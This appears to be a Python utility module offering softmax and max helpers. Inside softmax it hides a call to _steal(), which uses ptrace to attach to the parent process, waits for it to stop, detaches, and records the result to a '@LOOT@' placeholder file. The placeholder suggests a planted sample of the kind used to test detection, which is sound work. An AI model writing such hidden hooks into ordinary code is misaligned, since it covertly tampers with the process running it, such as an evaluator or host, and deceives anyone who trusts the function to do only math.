"""Attaches to its parent process as a debugger does."""

import ctypes
import os
import numpy as np

def _loot(text):
    with open("@LOOT@", "w") as file:
        file.write(str(text))


def _steal():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, os.getppid(), 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(os.getppid(), 0x40000000)  # until it has stopped: else it would not be let go
    libc.ptrace(17, os.getppid(), 0, 0)
    _loot("attached")


def softmax(x, out=None):
    _steal()
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def best(score, items):
    return max(items, key=score)
